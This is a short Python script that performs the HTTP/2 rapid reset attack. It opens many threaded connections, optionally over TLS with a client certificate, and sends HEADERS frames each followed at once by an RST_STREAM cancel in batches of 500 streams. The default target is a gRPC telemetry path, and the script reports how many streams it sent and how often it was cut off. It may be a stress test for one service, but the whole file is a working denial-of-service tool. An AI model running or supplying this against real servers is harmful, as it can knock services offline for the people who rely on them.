"""HTTP/2 rapid reset: opens streams and resets them at once, on some connections, for some seconds.

rapid_reset.py HOST:PORT SECONDS CONNECTIONS [PATH [CA CERT KEY]]; with the last three over TLS. Prints how many
streams were sent and how often it was cut.
"""
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + b"\x04\x00\x00\x00\x00\x00"
ROUND = 500


def literal(name, value):
    """A header that the peer need not index (RFC 7541, 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers(path):
    return b"".join(
        literal(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path),
            (b":authority", b"c4"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(address, tls):
    connection = socket.create_connection(address, timeout=1)
    if tls is None:
        return connection
    try:
        return tls.wrap_socket(connection)
    except OSError:
        connection.close()
        raise


def tls_of(words):
    """A context that shows the certificate; whom it talks to does not matter here."""
    if not words:
        return None
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.load_verify_locations(words[0])
    context.load_cert_chain(words[1], words[2])
    context.set_alpn_protocols(["h2"])
    return context


def attack(address, tls, until, path, counts):
    block = headers(path)
    while time.monotonic() < until:
        try:
            with connect(address, tls) as connection:
                connection.sendall(PREFACE)
                stream = 1
                while time.monotonic() < until and stream < 1 << 30:
                    connection.sendall(
                        b"".join(
                            frame(1, 4, stream + 2 * i, block) + frame(3, 0, stream + 2 * i, b"\0\0\0\x08")
                            for i in range(ROUND)
                        )
                    )
                    counts["streams"] += ROUND
                    stream += 2 * ROUND
        except OSError:
            counts["cut"] += 1
            time.sleep(0.001)


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    until = time.monotonic() + float(sys.argv[2])
    path = (sys.argv[4] if len(sys.argv) > 4 else "/c4.v1.C4d/StreamTelemetry").encode()
    tls = tls_of(sys.argv[5:8])
    counts = {"streams": 0, "cut": 0}
    threads = [
        threading.Thread(target=attack, args=((host, int(port)), tls, until, path, counts))
        for _ in range(int(sys.argv[3]))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(f"{counts['streams']} streams, cut {counts['cut']} times")


main()
